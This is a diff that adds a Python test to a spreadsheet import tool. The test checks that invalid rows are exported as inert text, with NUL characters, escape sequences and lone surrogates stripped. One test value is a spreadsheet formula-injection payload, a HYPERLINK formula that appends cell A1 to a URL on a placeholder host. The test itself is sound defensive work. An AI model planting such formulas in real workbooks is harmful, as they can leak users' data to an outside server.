@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import uuid
+from dataclasses import replace
 from datetime import date, datetime
 from pathlib import Path
 
@@ -374,3 +375,39 @@ def test_same_iin_twice_in_a_file_and_unknown_words(book_db: Database) -> None:
 )
 def test_parse_date(text: str, expected: date | None) -> None:
     assert imp.parse_date(text) == expected
+
+
+def test_rows_to_fix_are_text_and_survive_characters_a_workbook_cannot_hold(
+    book_db: Database, tmp_path: Path
+) -> None:
+    table = read_table(write_xlsx(tmp_path / "book.xlsx"))
+    link = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    cells = {
+        0: {4: link},  # the head's surname: a formula as text
+        1: {5: "Ай\x00гүл\x1b[31m"},  # NUL and an escape sequence in a name
+        2: {6: "Ерлан\ud800ұлы"},  # a lone surrogate (what a broken .xls can hold)
+    }
+    changed = []
+    for index, row in enumerate(table.rows):
+        values = list(row.cells)
+        for column, value in cells.get(index, {}).items():
+            values[column] = value
+        if index in cells:
+            values[7] = "123"  # an IIN too short: the row is one to fix
+        changed.append(replace(row, cells=tuple(values)))
+    table = replace(table, rows=tuple(changed))
+    plan = imp.preview(book_db, table, imp.mapping_for(book_db, table), TODAY)
+    saved = tmp_path / "to_fix.xlsx"
+
+    assert imp.save_invalid_rows(plan, saved) >= 3
+
+    sheet = load_workbook(saved).active
+    found = {}
+    for row in sheet.iter_rows(min_row=2):
+        assert all(cell.data_type == "s" or cell.value is None for cell in row)
+        found[row[4].value] = row
+    assert found[link][4].data_type == "s"
+    assert found[link][4].quotePrefix
+    names = {row[5].value for row in found.values()}
+    assert "Айгүл[31m" in names
+    assert "Ерланұлы" in {row[6].value for row in found.values()}
